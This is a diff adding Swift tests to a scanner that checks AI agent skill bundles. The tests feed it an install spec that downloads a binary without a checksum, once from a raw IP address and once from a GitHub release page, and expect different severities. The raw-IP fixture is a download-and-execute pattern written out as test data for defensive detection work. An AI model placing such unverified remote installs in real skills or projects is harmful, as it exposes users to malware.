@@ -233,3 +233,31 @@ struct BehaviorRulesTests {
     #expect(finding.severity == .high)
   }
 }
+
+/// OpenClaw install specs downloaded without a checksum.
+@Suite struct InstallSpecTests {
+  func findings(_ url: String) -> [Finding] {
+    let md = """
+      ---
+      name: whisper-fast
+      description: Fast transcription.
+      metadata: {"openclaw": {"install": [{"id": "w", "kind": "download", "url": "\(url)", "bins": ["w"]}]}}
+      ---
+      # Whisper
+
+      """
+    let bundle = SkillBundle(
+      path: "whisper-fast", files: [SourceFile(path: "SKILL.md", bytes: Array(md.utf8), kind: .instructions, language: .markdown)])
+    return Scanner(configuration: ScanConfiguration(jobs: 1)).judge(bundle).findings.filter { $0.ruleID == "remote-instructions" }
+  }
+
+  @Test("An unverified install from an anonymous host is a high download-execute chain; from a release page, medium")
+  func anonymousHost() throws {
+    let raw = try #require(findings("http://45.146.165.140/w-macos.tar.gz").first)
+    #expect(raw.severity == .high)
+    #expect(raw.chain == .downloadExecute)
+    let release = try #require(findings("https://github.com/whisper-fast/w/releases/download/v1/w-macos.tar.gz").first)
+    #expect(release.severity == .medium)
+    #expect(release.chain == nil)
+  }
+}
